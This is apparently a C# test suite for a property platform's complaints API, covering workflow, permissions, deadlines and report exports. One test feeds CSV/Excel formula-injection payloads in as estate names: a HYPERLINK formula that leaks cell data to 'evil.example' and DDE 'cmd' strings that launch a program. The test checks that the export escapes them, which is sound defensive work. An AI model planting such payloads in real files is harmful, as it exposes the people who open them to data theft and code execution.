using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Xml.Linq;
using ClosedXML.Excel;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using PropertyPlatform.Reception.Data;
using PropertyPlatform.Reception.Domain;
using PropertyPlatform.Reception.Features.Complaints;
using PropertyPlatform.Reception.Features.Requests;
using PropertyPlatform.ServiceDefaults.Http;
using PropertyPlatform.ServiceDefaults.Sla;
using PropertyPlatform.TestSupport;
using PropertyPlatform.TestSupport.Auth;

namespace PropertyPlatform.Reception.Tests.Features.Complaints;

public sealed class ComplaintsApiTests(ReceptionService reception)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_complaint_goes_from_record_to_satisfaction_each_step_attributed_assignment_routes_its_request_and_closing_completes_it()
    {
        var (estateId, units) = await reception.NewEstateAsync();
        var clerk = reception.CreateClient(TestCaller.Clerk(estateId));
        var supervisor = reception.CreateClient(TestCaller.Staff("cs-supervisor", estateId));
        var owner = reception.CreateClient(TestCaller.Owner(estateId, units[0]));
        var complaint = await RecordAsync(owner, estateId, units[0]);
        complaint.Status.Should().Be(ComplaintStatus.Recorded);

        (await PostAsync(clerk, complaint.Id, "classify", new { kind = "complaint", category = "security" })).Status.Should().Be(ComplaintStatus.Classified);
        (await clerk.PostAsJsonAsync($"/api/reception/complaints/{complaint.Id}/assign", new { department = "security", responsiblePerson = "Captain Ma" }, Ct))
            .StatusCode.Should().Be(HttpStatusCode.Forbidden, "the supervisor decides who is responsible");
        var assigned = await PostAsync(supervisor, complaint.Id, "assign", new { department = "security", responsiblePerson = "Captain Ma", deadlineWorkingHours = 8 });
        assigned.DueAt.Should().NotBeNull();
        await PostAsync(clerk, complaint.Id, "notes", new { note = "Guard on shift identified" });
        await PostAsync(clerk, complaint.Id, "resolve", new { note = "Guard retrained" });
        await PostAsync(clerk, complaint.Id, "inform", new { note = "Told Ms Li by phone" });
        var closed = await PostAsync(owner, complaint.Id, "satisfaction", new { score = 4, comment = "Thanks" });

        closed.Status.Should().Be(ComplaintStatus.Closed);
        closed.Steps.Select(s => s.Action).Should().Equal(
            ComplaintAction.Recorded, ComplaintAction.Classified, ComplaintAction.Assigned, ComplaintAction.Note,
            ComplaintAction.Resolved, ComplaintAction.ResidentInformed, ComplaintAction.SatisfactionRecorded);
        closed.Steps.Should().OnlyContain(s => !string.IsNullOrEmpty(s.By) && !string.IsNullOrEmpty(s.ByName));
        var request = await reception.InScopeAsync(sp => sp.GetRequiredService<ReceptionDbContext>().Requests.AsNoTracking()
            .SingleAsync(r => r.Id == complaint.RequestId, Ct));
        request.Status.Should().Be(RequestStatus.Completed, "a closed complaint completes the request it was recorded as");
        request.CompletedAt.Should().BeCloseTo(closed.ClosedAt!.Value, TimeSpan.FromMilliseconds(1));
        request.Resolution.Should().Be("Guard retrained");
        request.RoutedTo.Should().Be(Department.Security);
    }

    [Fact]
    public async Task Complaint_steps_out_of_order_are_conflicts_and_bad_input_names_the_field_and_changes_nothing()
    {
        var (estateId, units) = await reception.NewEstateAsync();
        var clerk = reception.CreateClient(TestCaller.Clerk(estateId));
        var complaint = await RecordAsync(clerk, estateId, units[0]);

        var bad = await clerk.PostAsJsonAsync($"/api/reception/complaints/{complaint.Id}/classify", new { kind = "rant", category = "weather" }, Ct);
        bad.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await bad.Content.ReadAsStringAsync(Ct)).Should().Contain("\"kind\"").And.Contain("\"category\"");
        var early = await clerk.PostAsJsonAsync($"/api/reception/complaints/{complaint.Id}/resolve", new { note = "done" }, Ct);
        early.StatusCode.Should().Be(HttpStatusCode.Conflict);

        var unchanged = await clerk.GetFromJsonAsync<ComplaintResponse>($"/api/reception/complaints/{complaint.Id}", ApiJson.Options, Ct);
        unchanged!.Status.Should().Be(ComplaintStatus.Recorded);
        unchanged.Steps.Should().ContainSingle();
    }

    [Fact]
    public async Task Another_estate_cannot_see_or_touch_a_complaint_and_an_owner_sees_only_their_own()
    {
        var (estateId, units) = await reception.NewEstateAsync(2);
        var (otherEstate, _) = await reception.NewEstateAsync();
        var clerk = reception.CreateClient(TestCaller.Clerk(estateId));
        var complaint = await RecordAsync(clerk, estateId, units[0]);
        var stranger = reception.CreateClient(TestCaller.Clerk(otherEstate));
        var neighbour = reception.CreateClient(TestCaller.Owner(estateId, units[1]));

        (await stranger.GetAsync($"/api/reception/complaints/{complaint.Id}", Ct)).StatusCode.Should().Be(HttpStatusCode.NotFound);
        (await stranger.PostAsJsonAsync($"/api/reception/complaints/{complaint.Id}/classify", new { kind = "complaint", category = "noise" }, Ct))
            .StatusCode.Should().Be(HttpStatusCode.NotFound);
        (await neighbour.GetAsync($"/api/reception/complaints/{complaint.Id}", Ct)).StatusCode.Should().Be(HttpStatusCode.NotFound);
        var list = await stranger.GetFromJsonAsync<Page<ComplaintResponse>>("/api/reception/complaints", ApiJson.Options, Ct);
        list!.Items.Should().NotContain(c => c.Id == complaint.Id);
    }

    [Fact]
    public async Task A_complaint_past_its_deadline_escalates_to_the_supervisor()
    {
        var (estateId, units) = await reception.NewEstateAsync();
        var complaintId = await reception.InScopeAsync(async sp =>
        {
            var db = sp.GetRequiredService<ReceptionDbContext>();
            var estate = await db.Estates.SingleAsync(e => e.Id == estateId, Ct);
            var longAgo = DateTimeOffset.UtcNow.AddDays(-10);
            var request = RequestIntake.Open(db, estate,
                new NewRequest(units[0], RequestChannel.Phone, RequestCategory.Complaint, Urgency.Normal, "Noise at night", "Li"), "clerk", longAgo, Guid.NewGuid());
            await db.SaveChangesAsync(Ct);
            var complaint = await db.Complaints.SingleAsync(c => c.RequestId == request.Id, Ct);
            var by = new Actor("sup", "Supervisor");
            complaint.Classify(ComplaintKind.Complaint, ComplaintCategory.Noise, by, longAgo);
            complaint.Assign(Department.Management, "Manager Sun", TimeSpan.FromHours(4), estate.Calendar(), by, longAgo);
            await db.SaveChangesAsync(Ct);
            return complaint.Id;
        });

        await reception.CheckDeadlinesAsync();

        var events = await reception.InScopeAsync(sp => sp.GetRequiredService<ReceptionDbContext>().SlaEvents.AsNoTracking()
            .Where(e => e.SubjectId == complaintId).ToListAsync(Ct));
        events.Should().Contain(e => e.Kind == SlaEventKind.Breached && e.NotifiedRole == "cs-supervisor" && e.Policy == "complaint-deadline");
        events.Should().Contain(e => e.Kind == SlaEventKind.Escalated && e.NotifiedRole == "estate-manager");
        var shown = await reception.CreateClient(TestCaller.Clerk(estateId))
            .GetFromJsonAsync<ComplaintResponse>($"/api/reception/complaints/{complaintId}", ApiJson.Options, Ct);
        shown!.Breached.Should().BeTrue();
    }

    [Fact]
    public async Task The_desks_list_by_deadline_pages_the_estates_unresolved_complaints_soonest_deadline_first()
    {
        var (estateId, units) = await reception.NewEstateAsync();
        var (otherEstate, otherUnits) = await reception.NewEstateAsync();
        var now = DateTimeOffset.UtcNow;
        var assignedLongAgo = await ComplaintAtAsync(estateId, units[0], now.AddDays(-10), assign: true);
        var recordedYesterday = await ComplaintAtAsync(estateId, units[0], now.AddDays(-1));
        var recordedToday = await ComplaintAtAsync(estateId, units[0], now.AddHours(-2));
        var resolved = await ComplaintAtAsync(estateId, units[0], now.AddDays(-20), assign: true, resolve: true);
        var elsewhere = await ComplaintAtAsync(otherEstate, otherUnits[0], now.AddDays(-30));
        var clerk = reception.CreateClient(TestCaller.Clerk(estateId));

        var first = await clerk.GetFromJsonAsync<Page<ComplaintResponse>>("/api/reception/complaints?order=deadline&limit=2", ApiJson.Options, Ct);
        var second = await clerk.GetFromJsonAsync<Page<ComplaintResponse>>(
            $"/api/reception/complaints?order=deadline&limit=2&cursor={Uri.EscapeDataString(first!.NextCursor!)}", ApiJson.Options, Ct);

        first.Items.Select(c => c.Id).Should().Equal(assignedLongAgo, recordedYesterday);
        second!.Items.Select(c => c.Id).Should().Equal(recordedToday);
        second.NextCursor.Should().BeNull();
        first.Items.Concat(second.Items).Select(c => c.Id).Should().NotContain([resolved, elsewhere]);
        first.Items[0].DeadlineAt.Should().Be(first.Items[0].DueAt!.Value, "an assigned complaint's deadline is its resolution deadline");
        second.Items[0].DeadlineAt.Should().BeCloseTo(now.AddHours(-2).AddMinutes(5), TimeSpan.FromMilliseconds(1),
            "until assigned, the request's 5-minute routing deadline applies");
        var badOrder = await clerk.GetAsync("/api/reception/complaints?order=oldest", Ct);
        badOrder.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await badOrder.Content.ReadAsStringAsync(Ct)).Should().Contain("\"order\"");
    }

    /// <summary>A complaint received at <paramref name="receivedAt"/>, assigned then (4 working hours) and resolved if asked.</summary>
    private Task<Guid> ComplaintAtAsync(Guid estateId, Guid unitId, DateTimeOffset receivedAt, bool assign = false, bool resolve = false) =>
        reception.InScopeAsync(async sp =>
        {
            var db = sp.GetRequiredService<ReceptionDbContext>();
            var estate = await db.Estates.SingleAsync(e => e.Id == estateId, Ct);
            var request = RequestIntake.Open(db, estate,
                new NewRequest(unitId, RequestChannel.Phone, RequestCategory.Complaint, Urgency.Normal, "Noise at night", "Li"), "clerk", receivedAt, Guid.NewGuid());
            await db.SaveChangesAsync(Ct);
            var complaint = await db.Complaints.SingleAsync(c => c.RequestId == request.Id, Ct);
            var by = new Actor("sup", "Supervisor");
            if (assign)
            {
                complaint.Classify(ComplaintKind.Complaint, ComplaintCategory.Noise, by, receivedAt);
                complaint.Assign(Department.Management, "Manager Sun", TimeSpan.FromHours(4), estate.Calendar(), by, receivedAt);
            }

            if (resolve)
            {
                complaint.Resolve("Quiet now", by, receivedAt.AddHours(1));
            }

            await db.SaveChangesAsync(Ct);
            return complaint.Id;
        });

    [Fact]
    public async Task The_monthly_summary_counts_by_category_and_satisfaction_as_json_and_as_xlsx_for_the_manager()
    {
        var (estateId, units) = await reception.NewEstateAsync();
        var clerk = reception.CreateClient(TestCaller.Clerk(estateId));
        var supervisor = reception.CreateClient(TestCaller.Staff("cs-supervisor", estateId));
        var handled = await RecordAsync(clerk, estateId, units[0]);
        await PostAsync(clerk, handled.Id, "classify", new { kind = "complaint", category = "cleaning" });
        await PostAsync(supervisor, handled.Id, "assign", new { department = "cleaning", responsiblePerson = "Team B" });
        await PostAsync(clerk, handled.Id, "resolve", new { note = "Cleaned" });
        await PostAsync(clerk, handled.Id, "inform", new { note = "Told" });
        await PostAsync(clerk, handled.Id, "satisfaction", new { score = 2 });
        var open = await RecordAsync(clerk, estateId, units[0]);
        await PostAsync(clerk, open.Id, "classify", new { kind = "suggestion", category = "landscaping" });
        var month = TimeZoneInfo.ConvertTime(DateTimeOffset.UtcNow, TimeZoneInfo.FindSystemTimeZoneById("Asia/Shanghai"))
            .ToString("yyyy-MM", System.Globalization.CultureInfo.InvariantCulture);
        var manager = reception.CreateClient(TestCaller.Staff("estate-manager", estateId));

        var summary = await manager.GetFromJsonAsync<ComplaintSummaryResponse>(
            $"/api/reception/complaints/summary?estateId={estateId}&month={month}", ApiJson.Options, Ct);
        summary!.Recorded.Should().Be(2);
        summary.ByCategory.Should().BeEquivalentTo([new ComplaintCount("Cleaning", 1), new ComplaintCount("Landscaping", 1)]);
        summary.ByKind.Should().BeEquivalentTo([new ComplaintCount("Complaint", 1), new ComplaintCount("Suggestion", 1)]);
        summary.Resolved.Should().Be(1);
        summary.AverageResolutionHours.Should().NotBeNull();
        summary.Should().Match<ComplaintSummaryResponse>(s => s.SatisfactionAnswered == 1 && s.Satisfied == 0 && s.SatisfactionRate == 0m);

        var file = await manager.GetAsync($"/api/reception/complaints/summary?estateId={estateId}&month={month}&format=xlsx", Ct);
        file.Content.Headers.ContentType!.MediaType.Should().Be(PropertyPlatform.ServiceDefaults.Http.ReportFormat.XlsxContentType);
        using var workbook = new XLWorkbook(await file.Content.ReadAsStreamAsync(Ct));
        var sheet = workbook.Worksheet("Summary");
        sheet.Cell(3, 1).GetString().Should().Be("Complaints recorded");
        sheet.Cell(3, 2).GetValue<int>().Should().Be(2);
        workbook.Worksheet("By category").Cell(2, 1).GetString().Should().Be("Cleaning");

        (await clerk.GetAsync($"/api/reception/complaints/summary?estateId={estateId}&month={month}", Ct)).StatusCode.Should().Be(HttpStatusCode.Forbidden);
        var badFormat = await manager.GetAsync($"/api/reception/complaints/summary?estateId={estateId}&month={month}&format=pdf", Ct);
        (await badFormat.Content.ReadAsStringAsync(Ct)).Should().Contain("\"format\"");
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open the report\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    public async Task An_xlsx_export_writes_text_that_starts_like_a_formula_as_text_never_as_a_formula(string estateName)
    {
        // The estate's name is the summary's free text; whoever names an estate must not get a formula into the manager's Excel.
        var estateId = await reception.InScopeAsync(async services =>
        {
            var db = services.GetRequiredService<ReceptionDbContext>();
            var estate = Estate.Create(Guid.CreateVersion7(), estateName, "Asia/Shanghai", "CNY", new(8, 30), new(17, 30), [DayOfWeek.Monday], DateTimeOffset.UtcNow);
            db.Estates.Add(estate);
            await db.SaveChangesAsync(Ct);
            return estate.Id;
        });
        var manager = reception.CreateClient(TestCaller.Staff("estate-manager", estateId));

        var file = await manager.GetAsync($"/api/reception/complaints/summary?estateId={estateId}&month=2026-11&format=xlsx", Ct);

        file.StatusCode.Should().Be(HttpStatusCode.OK);
        using var workbook = new ZipArchive(await file.Content.ReadAsStreamAsync(Ct));
        var summary = XDocument.Load(workbook.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        XNamespace main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        var nameCell = summary.Descendants(main + "c").Single(c => (string?)c.Attribute("r") == "B1");
        nameCell.Element(main + "f").Should().BeNull("the name is data, not a formula");
        var type = (string?)nameCell.Attribute("t");
        var text = type switch
        {
            "s" => XDocument.Load(workbook.GetEntry("xl/sharedStrings.xml")!.Open()).Descendants(main + "si")
                .ElementAt(int.Parse(nameCell.Element(main + "v")!.Value, CultureInfo.InvariantCulture)).Value,
            "inlineStr" => nameCell.Element(main + "is")!.Value,
            _ => nameCell.Element(main + "v")?.Value,
        };
        type.Should().BeOneOf("s", "str", "inlineStr");
        text.Should().Be(estateName);
        workbook.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal))
            .Should().AllSatisfy(e => XDocument.Load(e.Open()).Descendants(main + "f").Should().BeEmpty());
    }

    private static async Task<ComplaintResponse> PostAsync(HttpClient client, Guid id, string step, object body)
    {
        var response = await client.PostAsJsonAsync($"/api/reception/complaints/{id}/{step}", body, Ct);
        response.StatusCode.Should().Be(HttpStatusCode.OK, await response.Content.ReadAsStringAsync(Ct));
        return (await response.Content.ReadFromJsonAsync<ComplaintResponse>(ApiJson.Options, Ct))!;
    }

    private async Task<ComplaintResponse> RecordAsync(HttpClient client, Guid estateId, Guid unitId)
    {
        var response = await client.PostAsJsonAsync("/api/reception/requests", new
        {
            estateId,
            unitId,
            channel = "app",
            category = "complaint",
            description = "The night guard was rude to my mother",
            requesterName = "Li",
        }, Ct);
        response.EnsureSuccessStatusCode();
        var request = (await response.Content.ReadFromJsonAsync<RequestResponse>(ApiJson.Options, Ct))!;
        var complaint = await reception.InScopeAsync(sp => sp.GetRequiredService<ReceptionDbContext>().Complaints.AsNoTracking()
            .SingleAsync(c => c.RequestId == request.Id, Ct));
        return (await client.GetFromJsonAsync<ComplaintResponse>($"/api/reception/complaints/{complaint.Id}", ApiJson.Options, Ct))!;
    }
}
